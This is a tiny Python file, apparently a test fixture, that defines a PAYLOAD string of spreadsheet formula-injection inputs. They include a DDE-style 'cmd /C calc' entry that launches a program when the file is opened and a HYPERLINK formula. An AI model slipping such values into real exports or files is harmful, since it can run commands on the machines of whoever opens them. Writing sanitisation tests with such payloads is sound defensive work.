"""Words that do something."""

PAYLOAD = '=1+1\n+cmd|\' /C calc\'!A0\n@SUM(1+1)*cmd\n-2+3\n\t=HYPERLINK("http://x")'
